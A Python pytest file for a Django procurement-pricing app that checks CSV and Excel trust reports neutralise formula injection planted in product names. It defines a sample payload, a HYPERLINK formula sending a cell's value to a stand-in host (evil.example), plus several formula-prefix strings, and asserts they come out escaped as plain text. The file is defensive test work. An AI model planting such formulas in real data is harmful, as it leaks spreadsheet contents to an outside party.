"""A supplier cannot plant a live formula in a trust's downloaded report through a product's name."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from organisations.models import Role
from pricing import analytics
from tests.catalogue.factories import ProductFactory
from tests.organisations.factories import TrustFactory, member
from tests.pricing.helpers import line

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your rebate")'


@pytest.fixture
def trust_buying_a_booby_trapped_product():
    cheap = TrustFactory(name="Cheap Hospitals NHS Trust", ods_code="CHP")
    dear = TrustFactory(name="Dear Hospitals NHS Trust", ods_code="DER")
    for name in [PLANTED, "+SUM(1,2)", "-2+3", "@cmd", "Plain stocking"]:
        product = ProductFactory(name=name)
        line(cheap, product, packs="100", pack_price="5.00")
        line(dear, product, packs="100", pack_price="7.00")
    analytics.summaries_refresh(full=True)
    return dear


def test_the_csv_report_shows_a_planted_formula_as_text(client, trust_buying_a_booby_trapped_product):
    client.force_login(member(Role.BUYER, trust_buying_a_booby_trapped_product))
    response = client.get(reverse("pricing:trust-report", args=["DER", "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = {row[1] for row in rows[1:]}
    assert "'" + PLANTED in names
    assert {"'+SUM(1,2)", "'-2+3", "'@cmd", "Plain stocking"} <= names
    assert not any(name[:1] in "=+-@" for name in names)
    # Figures stay figures: the savings column still parses as a number.
    assert all(Decimal(row[7]) >= 0 for row in rows[1:])


def test_the_excel_report_holds_the_name_as_text_not_a_formula(client, trust_buying_a_booby_trapped_product):
    client.force_login(member(Role.BUYER, trust_buying_a_booby_trapped_product))
    response = client.get(reverse("pricing:trust-report", args=["DER", "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=3)]
    assert "'" + PLANTED in {cell.value for cell in cells}
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(str(cell.value).startswith("=") for cell in cells)
